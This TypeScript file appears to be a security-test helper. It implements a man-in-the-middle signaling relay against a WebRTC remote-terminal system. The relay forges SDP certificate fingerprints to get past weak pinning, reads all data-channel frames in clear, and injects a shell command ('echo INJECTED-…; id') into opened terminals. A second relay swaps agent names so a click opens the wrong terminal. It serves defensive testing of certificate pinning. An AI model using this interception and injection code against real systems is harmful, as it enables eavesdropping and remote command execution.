/**
 * A hostile relay for the trust tests (issue 11): a Socket.IO server in the signaling path — in
 * front of an agent's LAN endpoint or of the cloud signaling server — that passes every event both
 * ways (handshake `auth` and acks included) except the negotiation, which it takes over. For each
 * console offer it answers the console itself with one werift peer and offers to the agent with
 * another, each with a certificate of its own, and writes the `a=fingerprint` lines so that the
 * pins a weak check looks at are still there (the console's on the agent's leg, the agent's on the
 * console's leg) beside lines of its own certificate (`FingerprintTrick`). When both legs connect,
 * it bridges every data channel, keeps every frame it sees in clear, and types a command of its
 * own into each terminal it sees opened. Against a stack that pins the certificate DTLS actually
 * used, none of that happens.
 */
import { createHash, randomBytes } from 'node:crypto';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import * as x509 from '@peculiar/x509';
import { Server, type Socket as ServerSocket } from 'socket.io';
import { io as connect, type Socket as ClientSocket } from 'socket.io-client';
import { patchedWerift, type Werift } from './patched-werift.js';

/** How the relay writes the fingerprint lines of each SDP it forges. */
export type FingerprintTrick =
  /** the pinned sha-256 line, then a sha-512 line of the relay's certificate (werift prefers sha-512; Chromium the later line) */
  | 'sha512-after'
  /** the relay's sha-512 line first, then the pinned sha-256 line */
  | 'sha512-before'
  /** the pinned sha-256 line, then a second sha-256 line of the relay's certificate */
  | 'sha256-after'
  /** a sha-256 line of the relay's certificate, then the pinned one */
  | 'sha256-before'
  /** the pinned line at session level, the relay's (sha-512) at media level (the media level wins in Chromium) */
  | 'session-pinned-media-own'
  /** the relay's (sha-512) line at session level, the pinned one at media level */
  | 'session-own-media-pinned'
  /** only the pinned line, while DTLS presents the relay's certificate: the DTLS layers must refuse on their own */
  | 'pinned-only';

export const FINGERPRINT_TRICKS: readonly FingerprintTrick[] = [
  'sha512-after',
  'sha512-before',
  'sha256-after',
  'sha256-before',
  'session-pinned-media-own',
  'session-own-media-pinned',
  'pinned-only',
];

export interface SeenFrame {
  /** `console→agent` or `agent→console` */
  direction: string;
  label: string;
  /** the frame as the relay read it: text, or binary as UTF-8 */
  text: string;
}

export interface HostileRelay {
  port: number;
  url: string;
  trick: FingerprintTrick;
  /** offers the relay took over */
  readonly offers: number;
  /** how far each leg got: `connected` means DTLS completed with the relay's certificate */
  readonly consoleLeg: string[];
  readonly agentLeg: string[];
  /** every frame the relay read in clear, both directions */
  readonly seen: SeenFrame[];
  /** commands it typed into terminals */
  readonly injected: string[];
  /** what the agent's side told the relay (`webrtc:disconnect`) */
  readonly agentDisconnects: { reason: string; code?: string }[];
  /** what the console told the relay */
  readonly consoleDisconnects: { reason: string; code?: string }[];
  close(): Promise<void>;
}

const ICE = { iceAdditionalHostAddresses: ['127.0.0.1'], iceInterfaceAddresses: { udp4: '127.0.0.1' }, iceUseIpv6: false };
type Pc = InstanceType<Werift['RTCPeerConnection']>;
type Channel = ReturnType<Pc['createDataChannel']>;
type Sdp = { sessionId: string; sdp: string; agentId?: string };
type IceMessage = { sessionId: string; candidate: { candidate: string; sdpMid?: string | null; sdpMLineIndex?: number | null } | null };

interface RelayCertificate {
  certPem: string;
  keyPem: string;
  sha256: string;
  sha512: string;
}

const colonHex = (digest: Buffer) => [...digest].map((b) => b.toString(16).padStart(2, '0').toUpperCase()).join(':');

/** A fresh ECDSA P-256 certificate of the relay's own, with its fingerprints. */
async function relayCertificate(): Promise<RelayCertificate> {
  const { subtle } = globalThis.crypto;
  x509.cryptoProvider.set(globalThis.crypto as never);
  const algorithm = { name: 'ECDSA', namedCurve: 'P-256', hash: 'SHA-256' };
  const keys = await subtle.generateKey(algorithm, true, ['sign', 'verify']);
  const cert = await x509.X509CertificateGenerator.createSelfSigned({
    serialNumber: randomBytes(8).toString('hex'),
    name: 'CN=relay',
    notBefore: new Date(Date.now() - 86_400_000),
    notAfter: new Date(Date.now() + 86_400_000 * 30),
    signingAlgorithm: algorithm,
    keys: keys as never,
  });
  const der = Buffer.from(cert.rawData);
  const pkcs8 = await subtle.exportKey('pkcs8', keys.privateKey);
  return {
    certPem: cert.toString('pem'),
    keyPem: x509.PemConverter.encode(pkcs8, 'PRIVATE KEY'),
    sha256: colonHex(createHash('sha256').update(der).digest()),
    sha512: colonHex(createHash('sha512').update(der).digest()),
  };
}

/** The SDP with its fingerprint lines replaced as `trick` says: `pinned` is the victim's, `own` the relay's. */
export function forgeFingerprints(sdp: string, trick: FingerprintTrick, pinned: string, own: RelayCertificate): string {
  const eol = sdp.includes('\r\n') ? '\r\n' : '\n';
  const lines = sdp.split(/\r?\n/).filter((l) => l !== '' && !/^a=fingerprint:/i.test(l));
  const pin = `a=fingerprint:sha-256 ${pinned}`;
  const own256 = `a=fingerprint:sha-256 ${own.sha256}`;
  const own512 = `a=fingerprint:sha-512 ${own.sha512}`;
  const media: string[] = {
    'sha512-after': [pin, own512],
    'sha512-before': [own512, pin],
    'sha256-after': [pin, own256],
    'sha256-before': [own256, pin],
    'session-pinned-media-own': [own512],
    'session-own-media-pinned': [pin],
    'pinned-only': [pin],
  }[trick];
  const session: string[] = trick === 'session-pinned-media-own' ? [pin] : trick === 'session-own-media-pinned' ? [own512] : [];
  const firstMedia = lines.findIndex((l) => l.startsWith('m='));
  const out = [...lines.slice(0, firstMedia), ...session];
  for (const line of lines.slice(firstMedia)) {
    out.push(line);
    if (line.startsWith('m=')) out.push(...media);
  }
  return out.join(eol) + eol;
}

function fingerprintOfSdp(sdp: string): string | undefined {
  return /^a=fingerprint:sha-256 (\S+)/im.exec(sdp)?.[1]?.toUpperCase();
}

function isMdns(candidate: string): boolean {
  return (candidate.split(' ')[4] ?? '').endsWith('.local');
}

/**
 * Starts the relay in front of `upstreamUrl`. `agentFingerprint` is the agent's (public) pinned
 * fingerprint, which the relay keeps in the answers it forges; the console's it reads from the offer.
 */
export async function startHostileRelay(
  upstreamUrl: string,
  options: { trick: FingerprintTrick; agentFingerprint: string; port?: number },
): Promise<HostileRelay> {
  const werift = await patchedWerift();
  const http = createServer();
  const server = new Server(http, { cors: { origin: '*' }, transports: ['websocket'] });
  const peers: Pc[] = [];
  const state = {
    offers: 0,
    consoleLeg: [] as string[],
    agentLeg: [] as string[],
    seen: [] as SeenFrame[],
    injected: [] as string[],
    agentDisconnects: [] as { reason: string; code?: string }[],
    consoleDisconnects: [] as { reason: string; code?: string }[],
  };

  const takeOver = async (console: ServerSocket, upstream: ClientSocket, offer: Sdp) => {
    state.offers += 1;
    const consoleFingerprint = fingerprintOfSdp(offer.sdp) ?? '';
    const [towardConsole, towardAgent] = await Promise.all([relayCertificate(), relayCertificate()]);
    const dtls = (c: RelayCertificate) => ({
      dtls: { keys: { certPem: c.certPem, keyPem: c.keyPem, signatureHash: { hash: 4 as const, signature: 3 as const } } },
    });
    const r1: Pc = new werift.RTCPeerConnection({ ...ICE, ...dtls(towardConsole) });
    const r2: Pc = new werift.RTCPeerConnection({ ...ICE, ...dtls(towardAgent) });
    peers.push(r1, r2);
    r1.connectionStateChange.subscribe((s) => state.consoleLeg.push(s));
    r2.connectionStateChange.subscribe((s) => state.agentLeg.push(s));
    const id = offer.sessionId;

    // The agent's leg: the relay's own offer, with the console's pin kept in it.
    const agentControl = r2.createDataChannel('control');
    let offered = false;
    const early: unknown[] = [];
    r2.onIceCandidate.subscribe((c) => {
      const json = c?.toJSON();
      const message = {
        sessionId: id,
        candidate: json ? { candidate: json.candidate, sdpMid: json.sdpMid, sdpMLineIndex: json.sdpMLineIndex } : null,
      };
      if (offered) upstream.emit('webrtc:ice', message);
      else early.push(message);
    });
    upstream.on('webrtc:answer', (msg: Sdp) => {
      if (msg.sessionId === id)
        void r2
          .setRemoteDescription({ type: 'answer', sdp: msg.sdp })
          .catch((e: unknown) => state.agentLeg.push(`answer refused: ${String(e)}`));
    });
    upstream.on('webrtc:ice', (msg: IceMessage) => {
      if (msg.sessionId === id && msg.candidate && !isMdns(msg.candidate.candidate)) {
        void r2
          .addIceCandidate({
            candidate: msg.candidate.candidate,
            sdpMid: msg.candidate.sdpMid ?? undefined,
            sdpMLineIndex: msg.candidate.sdpMLineIndex ?? undefined,
          })
          .catch(() => undefined);
      }
    });
    upstream.on('webrtc:disconnect', (msg: { sessionId: string; reason: string; code?: string }) => {
      if (msg.sessionId === id) state.agentDisconnects.push({ reason: msg.reason, ...(msg.code ? { code: msg.code } : {}) });
    });
    await r2.setLocalDescription(await r2.createOffer());
    const forgedOffer = forgeFingerprints(r2.localDescription!.sdp, options.trick, consoleFingerprint, towardAgent);
    upstream.emit('webrtc:offer', { sessionId: id, agentId: offer.agentId, sdp: forgedOffer }, () => undefined);
    offered = true;
    for (const message of early.splice(0)) upstream.emit('webrtc:ice', message);

    // The console's leg: the relay's own answer, with the agent's pin kept in it.
    r1.onIceCandidate.subscribe((c) => {
      const json = c?.toJSON();
      console.emit('webrtc:ice', {
        sessionId: id,
        candidate: json ? { candidate: json.candidate, sdpMid: json.sdpMid, sdpMLineIndex: json.sdpMLineIndex } : null,
      });
    });
    console.on('webrtc:ice', (msg: IceMessage) => {
      if (msg?.sessionId === id && msg.candidate && !isMdns(msg.candidate.candidate)) {
        void r1
          .addIceCandidate({
            candidate: msg.candidate.candidate,
            sdpMid: msg.candidate.sdpMid ?? undefined,
            sdpMLineIndex: msg.candidate.sdpMLineIndex ?? undefined,
          })
          .catch(() => undefined);
      }
    });
    await r1.setRemoteDescription({ type: 'offer', sdp: offer.sdp });
    await r1.setLocalDescription(await r1.createAnswer());
    console.emit('webrtc:answer', {
      sessionId: id,
      sdp: forgeFingerprints(r1.localDescription!.sdp, options.trick, options.agentFingerprint, towardConsole),
    });

    // Bridging: every channel the console opens is opened toward the agent, frames read in clear.
    r1.onDataChannel.subscribe((fromConsole: Channel) => {
      const label = fromConsole.label;
      const toAgent = label === 'control' ? agentControl : r2.createDataChannel(label);
      bridge(fromConsole, toAgent, label);
    });
  };

  const bridge = (fromConsole: Channel, toAgent: Channel, label: string) => {
    const pending: (string | Buffer)[] = [];
    const sendToAgent = (data: string | Buffer) => (toAgent.readyState === 'open' ? toAgent.send(data) : pending.push(data));
    toAgent.stateChanged.subscribe((s) => {
      if (s === 'open') for (const data of pending.splice(0)) toAgent.send(data);
    });
    fromConsole.onMessage.subscribe((data: string | Buffer) => {
      state.seen.push({ direction: 'console→agent', label, text: typeof data === 'string' ? data : Buffer.from(data).toString('utf8') });
      sendToAgent(data);
    });
    toAgent.onMessage.subscribe((data: string | Buffer) => {
      const text = typeof data === 'string' ? data : Buffer.from(data).toString('utf8');
      state.seen.push({ direction: 'agent→console', label, text });
      if (fromConsole.readyState === 'open') fromConsole.send(data);
      if (typeof data === 'string' && text.includes('"type":"opened"')) {
        const command = `echo INJECTED-${randomBytes(3).toString('hex')}; id\n`;
        state.injected.push(command);
        toAgent.send(Buffer.from(command));
      }
    });
  };

  server.on('connection', (console) => {
    const upstream = connect(upstreamUrl, { transports: ['websocket'], reconnection: false, forceNew: true, auth: console.handshake.auth });
    upstream.onAny((event: string, payload: unknown) => {
      // The answers, candidates and disconnects of a negotiation the relay took over go to its own peer.
      // So do the server's complaints about them: the console must not learn of the relay's leg.
      if (event === 'webrtc:answer' || event === 'webrtc:ice' || event === 'webrtc:disconnect') return;
      if (event === 'signal:error' && (payload as { sessionId?: string })?.sessionId) return;
      console.emit(event, payload);
    });
    console.onAny((event: string, payload: unknown, ack?: unknown) => {
      const reply = typeof ack === 'function' ? (ack as (r: unknown) => void) : () => undefined;
      if (event === 'webrtc:offer') {
        reply({ ok: true });
        void takeOver(console, upstream, payload as Sdp).catch((e: unknown) => state.consoleLeg.push(`take-over failed: ${String(e)}`));
        return;
      }
      if (event === 'webrtc:ice') return reply({ ok: true }); // for the relay's own peer (handled in takeOver)
      if (event === 'webrtc:disconnect') {
        const msg = payload as { reason: string; code?: string };
        state.consoleDisconnects.push({ reason: msg?.reason, ...(msg?.code ? { code: msg.code } : {}) });
        return reply({ ok: true });
      }
      if (typeof ack === 'function') upstream.emit(event, payload, reply);
      else upstream.emit(event, payload);
    });
    console.on('disconnect', () => upstream.disconnect());
    upstream.on('disconnect', () => console.disconnect(true));
  });
  await new Promise<void>((resolve, reject) => {
    http.once('error', reject);
    http.listen(options.port ?? 0, '127.0.0.1', () => resolve());
  });
  const port = (http.address() as AddressInfo).port;
  return {
    port,
    url: `http://127.0.0.1:${port}`,
    trick: options.trick,
    get offers() {
      return state.offers;
    },
    consoleLeg: state.consoleLeg,
    agentLeg: state.agentLeg,
    seen: state.seen,
    injected: state.injected,
    agentDisconnects: state.agentDisconnects,
    consoleDisconnects: state.consoleDisconnects,
    async close() {
      await Promise.all(peers.map((pc) => pc.close().catch(() => undefined)));
      // Sockets first: a console's signaling socket stays connected, and the server's close waits for it.
      server.disconnectSockets(true);
      const closed = server.close();
      http.closeAllConnections();
      await closed;
    },
  };
}

/** A relay that renames agents in its presence (`startRenamingRelay`). */
export interface RenamingRelay {
  url: string;
  /** presence events it rewrote */
  readonly rewritten: number;
  close(): Promise<void>;
}

/**
 * A signaling relay that passes every event both ways unchanged, negotiation included, except the
 * agents' names in `presence:snapshot` and `presence:diff`, which it takes from `names` (agent id →
 * the name it lists): a hostile server swapping the names of two agents, so that a click on one
 * opens a terminal in the other.
 */
export async function startRenamingRelay(upstreamUrl: string, names: Readonly<Record<string, string>>): Promise<RenamingRelay> {
  const http = createServer();
  const server = new Server(http, { cors: { origin: '*' }, transports: ['websocket'] });
  let rewritten = 0;
  type Listed = { agentId: string; name: string };
  const rename = (agents: Listed[]) =>
    agents.map((a) => {
      const name = names[a.agentId];
      if (name === undefined) return a;
      rewritten += 1;
      return { ...a, name };
    });
  server.on('connection', (console) => {
    const upstream = connect(upstreamUrl, { transports: ['websocket'], reconnection: false, forceNew: true, auth: console.handshake.auth });
    upstream.onAny((event: string, payload: unknown) => {
      if (event === 'presence:snapshot') {
        const snapshot = payload as { agents: Listed[] };
        return console.emit(event, { ...snapshot, agents: rename(snapshot.agents) });
      }
      if (event === 'presence:diff') {
        const diff = payload as { joins: Listed[] };
        return console.emit(event, { ...diff, joins: rename(diff.joins) });
      }
      console.emit(event, payload);
    });
    console.onAny((event: string, payload: unknown, ack?: unknown) => {
      if (typeof ack === 'function') upstream.emit(event, payload, ack as (r: unknown) => void);
      else upstream.emit(event, payload);
    });
    console.on('disconnect', () => upstream.disconnect());
    upstream.on('disconnect', () => console.disconnect(true));
  });
  await new Promise<void>((resolve, reject) => {
    http.once('error', reject);
    http.listen(0, '127.0.0.1', () => resolve());
  });
  return {
    url: `http://127.0.0.1:${(http.address() as AddressInfo).port}`,
    get rewritten() {
      return rewritten;
    },
    async close() {
      server.disconnectSockets(true);
      const closed = server.close();
      http.closeAllConnections();
      await closed;
    },
  };
}
